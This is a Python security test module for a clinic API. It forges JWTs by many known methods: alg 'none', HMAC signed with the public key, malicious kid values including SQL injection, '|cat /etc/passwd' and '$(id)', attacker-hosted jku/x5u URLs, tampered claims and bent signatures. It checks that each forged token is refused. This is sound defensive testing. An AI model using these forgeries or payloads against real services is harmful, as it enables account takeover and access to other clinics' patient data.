"""Tokens that nobody has issued, in all the ways that are known; and good ones where they must not count. Controls: the genuine token
works before and after, and for each operation a request that is refused has a twin that is not."""

import base64
import hashlib
import hmac
import json
import time
import uuid
from concurrent.futures import ThreadPoolExecutor

import ed25519
from engine import BROKEN, HELD, UNPROVEN
from parties import Refused, path_of

# Refused before anything is looked at; or not even answered, as what is too long for any header.
DOOR = (0, 400, 401, 413, 414, 431)


def part(value):
    data = value if isinstance(value, bytes) else json.dumps(value, separators=(",", ":")).encode()
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def opened(text):
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


class Forge:
    """What can be made of a genuine token, another clinic's, and the published keys."""

    def __init__(self, run):
        self.ours, self.theirs = run.a.session.token, run.b.session.token
        self.head, self.body, self.signature = self.ours.split(".")
        self.header, self.claims = json.loads(opened(self.head)), json.loads(opened(self.body))
        self.their_claims = json.loads(opened(self.theirs.split(".")[1]))
        keys = run.client.send("GET", "/.well-known/jwks.json").get("keys") or []
        self.keys = [key for key in keys if key.get("kid") == self.header.get("kid")] + keys
        self.refresh, self.run = run.a.session.refresh, run

    def signed(self, header, claims, sign):
        text = f"{part(header)}.{part(claims)}"
        return f"{text}.{part(sign(text.encode()))}"

    def mac(self, secret, algorithm="HS256", header=(), claims=None):
        digest = getattr(hashlib, "sha" + algorithm[2:])
        return self.signed({**self.header, "alg": algorithm, **dict(header)}, claims or self.elsewhere(), lambda text: hmac.new(secret, text, digest).digest())

    def elsewhere(self, **changes):
        """Our claims, but for the other clinic."""
        return {**self.claims, **{name: self.their_claims[name] for name in ("companyId", "userId", "sub", "sid") if name in self.their_claims}, **changes}

    def own_key(self, header=(), claims=None):
        """By a key of the attacker's own."""
        secret = hashlib.sha256(b"attacker").digest()
        return self.signed({**self.header, "alg": "EdDSA", **dict(header)}, claims or self.elsewhere(), lambda text: ed25519.sign(secret, text))

    def edited(self, claims, signature=None):
        return f"{self.head}.{part(claims)}.{self.signature if signature is None else signature}"

    def none(self):
        for alg in ("none", "None", "NONE", "nOnE", "none ", "", None, "null", 0):
            for kid in (True, False):
                header = {**self.header, "alg": alg} if kid else {"alg": alg, "typ": self.header.get("typ")}
                for tail in ("", self.signature):
                    yield f"alg {alg!r}{'' if kid else ' without kid'}{', signed' if tail else ''}", f"{part(header)}.{part(self.elsewhere())}.{tail}"
        yield "no alg", f"{part({'typ': 'JWT'})}.{part(self.elsewhere())}."
        yield "our own claims, alg none", f"{part({**self.header, 'alg': 'none'})}.{self.body}."

    def mac_keys(self):
        for number, key in enumerate(self.keys[:2]):
            for algorithm in ("HS256", "HS384", "HS512"):
                for what, secret in public_forms(key):
                    yield f"{algorithm} by {what} of key {number}", self.mac(secret, algorithm)
        for what, secret in (("nothing", b""), ("NUL", b"\0"), ("secret", b"secret"), ("the key's id", str(self.header.get("kid")).encode())):
            yield f"HS256 by {what}", self.mac(secret)

    def kids(self):
        for kid in ("../../../../../../dev/null", "/dev/null", "file:///dev/null", "/proc/sys/kernel/randomize_va_space", "x' UNION SELECT '' --",
                    "x' UNION SELECT 'secret' --", "' OR '1'='1", "http://127.0.0.1:1/key", "|cat /etc/passwd", "$(id)", "", "\0", "%00", "x" * 5000, None, 0, [], {"$ne": ""},
                    "unknown", str(uuid.uuid4()), "*", "%"):
            for secret in (b"", b"secret"):
                yield f"kid {str(kid)[:40]!r}", self.mac(secret, header={"kid": kid})
            yield f"kid {str(kid)[:40]!r}, own key", self.own_key({"kid": kid})

    def own_keys(self):
        public = part(ed25519.public(hashlib.sha256(b"attacker").digest()))
        jwk = {"kty": "OKP", "crv": "Ed25519", "x": public, "use": "sig", "alg": "EdDSA", "kid": self.header.get("kid")}
        yield "own key", self.own_key()
        for kid in (self.header.get("kid"), "attacker"):
            yield "jwk", self.own_key({"jwk": {**jwk, "kid": kid}, "kid": kid})
        for name in ("jku", "x5u"):
            for address in ("http://127.0.0.1:1/jwks.json", "https://attacker.example.org/jwks.json", "file:///etc/passwd", "/openapi.json",
                            self.run.client.url.geturl() + "/.well-known/jwks.json", "http://127.0.0.1@attacker.example.org/jwks.json"):
                yield f"{name} {address}", self.own_key({name: address})
        yield "x5c", self.own_key({"x5c": [base64.b64encode(b"certificate").decode()]})
        yield "x5t", self.own_key({"x5t": part(b"x" * 20)})
        yield "a key of zeros", f"{self.head}.{part(self.elsewhere())}.{part(bytes(64))}"
        for alg in ("ES256", "ES384", "RS256", "PS256", "ES256K", "Ed448"):
            # What verifiers of ECDSA have let through: r and s are zero.
            yield f"{alg}, zeros", f"{part({**self.header, 'alg': alg})}.{part(self.elsewhere())}.{part(bytes(64))}"
            yield f"{alg}, our signature", f"{part({**self.header, 'alg': alg})}.{self.body}.{self.signature}"

    def edits(self):
        yield "the other clinic", self.edited({**self.claims, "companyId": self.their_claims.get("companyId")})
        yield "the other clinic and person", self.edited(self.elsewhere())
        for name, values in {"role": ["admin", "manager", "super_admin", "owner", None, ["admin"]], "userId": [self.their_claims.get("userId"), None],
                             "sub": [self.their_claims.get("sub"), "' OR 1=1 --"], "sid": [self.their_claims.get("sid"), str(uuid.uuid4())],
                             "exp": [int(time.time()) + 10**6, 2**63, None, "never"], "nbf": [0, 2**40], "iat": [0], "jti": [str(uuid.uuid4())],
                             "email": [self.run.b.session.email], "companyId": [None, "*", [self.their_claims.get("companyId")]], "admin": [True]}.items():
            for value in values:
                if self.claims.get(name) != value:
                    yield f"{name} is {str(value)[:20]}", self.edited({**self.claims, name: value})
        yield "their claims, our head and signature", f"{self.head}.{self.theirs.split('.')[1]}.{self.signature}"
        yield "a key twice", f"{self.head}.{part(opened(self.body)[:-1] + b',' + json.dumps({'companyId': self.their_claims.get('companyId')})[1:].encode())}.{self.signature}"
        yield "expired", self.edited({**self.claims, "exp": int(time.time()) - 1})

    def signatures(self):
        signature = opened(self.signature)
        flipped = bytes([signature[0] ^ 1]) + signature[1:]
        # The same point of the curve under another number: a signature that can be bent is one that can be made.
        order = 2**252 + 27742317777372353535851937790883648493
        bent = signature[:32] + ((int.from_bytes(signature[32:64], "little") + order) % 2**256).to_bytes(32, "little")
        for what, value in (("none", ""), ("cut", self.signature[:-4]), ("flipped", part(flipped)), ("bent", part(bent)), ("twice", self.signature * 2),
                            ("another's", self.theirs.split(".")[2]), ("zeros", part(bytes(64))), ("of ones", part(b"\xff" * 64)), ("one byte", part(b"\0")),
                            ("not base64", "!!!!"), ("reversed", part(signature[::-1])), ("of a hash", part(hashlib.sha512(self.body.encode()).digest()))):
            yield f"signature {what}", f"{self.head}.{self.body}.{value}"
        yield "without its last part", f"{self.head}.{self.body}"
        yield "only claims", self.body
        yield "two parts empty", f".{self.body}."

    def purposes(self):
        yield "a refresh token", self.refresh
        yield "the other clinic's refresh token", self.run.b.session.refresh
        yield "another audience", self.edited({**self.claims, "aud": "another"})
        yield "the platform's audience", self.edited({**self.claims, "aud": "medicalpro-platform"})
        yield "two audiences", self.edited({**self.claims, "aud": ["medicalpro", "medicalpro-platform"]})
        yield "another issuer", self.edited({**self.claims, "iss": "https://attacker.example.org"})
        yield "no issuer", self.edited({name: value for name, value in self.claims.items() if name != "iss"})
        for typ in ("JWT", "refresh+jwt", "dpop+jwt", "logout+jwt", "id_token", "none", ""):
            yield f"typ {typ!r}", f"{part({**self.header, 'typ': typ})}.{self.body}.{self.signature}"
        yield "an idempotency key", "key-" + "0" * 16
        yield "the session's id", str(self.claims.get("sid"))

    def forms(self):
        yield "crit", f"{part({**self.header, 'crit': ['exp']})}.{self.body}.{self.signature}"
        yield "crit, unknown", self.own_key({"crit": ["x"], "x": 1})
        yield "b64 false", f"{part({**self.header, 'b64': False, 'crit': ['b64']})}.{self.body}.{self.signature}"
        yield "nested", f"{part({**self.header, 'cty': 'JWT'})}.{part(self.ours.encode())}.{self.signature}"
        yield "encrypted", ".".join([part({"alg": "dir", "enc": "A256GCM"}), "", part(b"x" * 12), part(self.ours.encode()), part(b"x" * 16)])
        yield "compressed", f"{part({**self.header, 'zip': 'DEF'})}.{self.body}.{self.signature}"
        yield "huge", f"{self.head}.{part({**self.claims, 'x': 'y' * 6000})}.{self.signature}"
        yield "more than huge", "A" * 60000
        yield "deep", f"{self.head}.{part(b'[' * 3000)}.{self.signature}"
        yield "padded", f"{self.head}==.{self.body}==.{self.signature}=="
        yield "with a part more", f"{self.ours}.{self.signature}"
        yield "as JSON", json.dumps({"protected": self.head, "payload": self.body, "signature": self.signature})
        yield "twice", f"{self.ours}, {self.theirs}"
        yield "two in one", f"{self.ours} {self.theirs}"
        for text in ("", ".", "..", "...", "null", "undefined", "true", "[object Object]", "%00", "eyJ", "' OR '1'='1"):
            yield f"the text {text!r}", text.encode().decode("latin-1")


def public_forms(key):
    """A public key in all forms in which it may have been taken for a secret."""
    text = key.get("x") or key.get("n") or ""
    raw = opened(text)
    yield "its bytes", raw
    yield "its text", text.encode()
    yield "its JWK", json.dumps(key).encode()
    yield "its JWK, compact", json.dumps(key, separators=(",", ":")).encode()
    if key.get("crv") == "Ed25519":
        der = bytes.fromhex("302a300506032b6570032100") + raw
        body = base64.b64encode(der).decode()
        yield "its DER", der
        for what, pem in (("its PEM", f"-----BEGIN PUBLIC KEY-----\n{body}\n-----END PUBLIC KEY-----"), ("its base64", body)):
            yield what, pem.encode()
            yield what + " and a line end", pem.encode() + b"\n"


def attack(run, group, workers):
    forge = Forge(run)
    guarded = [one for one in run.spec.operations if not one.public]
    # Those that change nothing may be sent as often as one likes; of each there is a control.
    safe = [one for one in guarded if one.method == "GET" and not one.streams and "{" not in one.path and run.a.raw("GET", one.path).ok]
    everywhere = [one for one in guarded if not one.streams]
    kinds = {"token.none": forge.none, "token.mac": forge.mac_keys, "token.kid": forge.kids, "token.key": forge.own_keys, "token.claims": forge.edits,
             "token.signature": forge.signatures, "token.purpose": forge.purposes, "token.form": forge.forms}
    jobs = []
    for case, make in kinds.items():
        if not safe:
            run.record(case, UNPROVEN, "no operation answers to the genuine token")
            continue
        for number, (what, token) in enumerate(make()):
            for one in [safe[number % len(safe)]] if run.short else safe:
                jobs.append((case, what, one, [("Authorization", f"Bearer {token}")]))
            # One of each kind is for every operation.
            if number == 0:
                jobs += [(case, what, one, [("Authorization", f"Bearer {token}")]) for one in everywhere]
    jobs += [("token.absent", what, one, headers) for one in everywhere for what, headers in absent(run, forge)[: 1 if run.short else None]]
    jobs += [("token.absent", what, safe[0], headers) for what, headers in absent(run, forge)]

    def refused(job):
        case, what, one, headers = job
        try:
            answer = run.ask(case, run.a, one.method, path(one), headers or [("X-None", "1")], b"{}" if one.media else None, token=False)
        except Refused as limited:
            return run.record(case, UNPROVEN, str(limited))
        return run.check(case, answer.status in DOOR, f"{what}: {one} was answered {answer.status}")

    with ThreadPoolExecutor(workers) as pool:
        list(pool.map(refused, jobs))
    places(run, forge, safe)
    ended(run, safe)
    for one in safe:
        run.control(one, "token", run.a.raw("GET", one.path).ok, "the genuine token is refused")


def path(one):
    return one.path.replace("{", "").replace("}", "") if "{" not in one.path else "/".join(
        "00000000-0000-7000-8000-000000000000" if step.startswith("{") else step for step in one.path.split("/"))


def absent(run, forge):
    """No token, or one that is not given as a bearer's."""
    basic = base64.b64encode(f"{run.a.session.email}:{run.a.session.password}".encode()).decode()
    return [("no token", []), ("no scheme", [("Authorization", forge.ours)]), ("Basic", [("Authorization", f"Basic {basic}")]),
            ("Digest", [("Authorization", f"Digest {forge.ours}")]), ("another header", [("X-Authorization", f"Bearer {forge.ours}")]),
            ("Proxy-Authorization", [("Proxy-Authorization", f"Bearer {forge.ours}")]), ("X-Access-Token", [("X-Access-Token", forge.ours)]),
            ("empty", [("Authorization", "")]), ("only the scheme", [("Authorization", "Bearer")]), ("no space", [("Authorization", f"Bearer{forge.ours}")]),
            ("X-API-Key", [("X-API-Key", forge.ours)]), ("a user's name", [("X-Forwarded-User", run.a.session.email), ("X-Remote-User", run.a.session.email)])]


def places(run, forge, safe):
    """Good tokens where they do not count: alone they open nothing; beside one's own they change nothing."""
    for one in safe[:3] if run.short else safe:
        for name in ("access_token", "token", "jwt", "bearer", "authorization"):
            answer = run.ask("token.place", run.a, "GET", f"{one.path}?{name}={forge.ours}", [("X-None", "1")], token=False)
            run.check("token.place", answer.status in (*DOOR, 422), f"{one} took a token of the query {name}: {answer.status}")
            answer = run.ask("token.place", run.a, "GET", one.path, [("Cookie", f"{name}={forge.ours}")], token=False)
            run.check("token.place", answer.status in DOOR, f"{one} took a token of the cookie {name}: {answer.status}")
            run.ask("token.place", run.a, "GET", f"{one.path}?{name}={forge.theirs}")
            run.ask("token.place", run.a, "GET", one.path, [("Cookie", f"{name}={forge.theirs}")])
            run.record("token.place", HELD)
        both = [("Authorization", f"Bearer {forge.ours}"), ("Authorization", f"Bearer {forge.theirs}")]
        for headers in (both, both[::-1], [both[0], ("X-Authorization", f"Bearer {forge.theirs}")]):
            answer = run.client.send("GET", one.path, headers)
            # Which of two counts must not be a matter of who reads.
            mixed = answer.ok and headers is not both and len({name for name, _ in headers}) == 1
            kept = run.look("token.form", answer, b"", f"GET {one.path} with two headers", (run.a, one.path))
            run.check("token.form", not mixed and kept, f"{one}: of two headers with tokens one was chosen, {answer.status}")
    for scheme in ("bearer", "BEARER", "Bearer ", "bEaReR"):
        answer = run.ask("token.place", run.a, "GET", safe[0].path, [("Authorization", f"{scheme} {forge.ours}")], token=False)
        run.check("token.place", answer.ok or answer.status in DOOR, f"the scheme {scheme!r} was answered {answer.status}")


def ended(run, safe):
    """A session that was ended by its owner opens nothing any more, within seconds."""
    session = run.a.another()
    before = run.a.raw("GET", safe[0].path, session=session)
    out = run.a.raw("POST", path_of(run.spec, "logout"), session=session)
    if not (before.ok and out.ok):
        return run.record("token.ended", UNPROVEN, f"the log-out was answered {out.status}")
    until = time.monotonic() + 5
    while run.a.raw("GET", safe[0].path, session=session).ok and time.monotonic() < until:
        time.sleep(0.1)
    for one in safe:
        answer = run.a.raw("GET", one.path, session=session)
        run.check("token.ended", answer.status == 401, f"{one} was answered {answer.status} to a session that was ended")
    answer = session.post(session.refresh_path, {"refreshToken": session.refresh})
    return run.record("token.ended", BROKEN if answer.ok else HELD, "a session that was ended could be renewed")
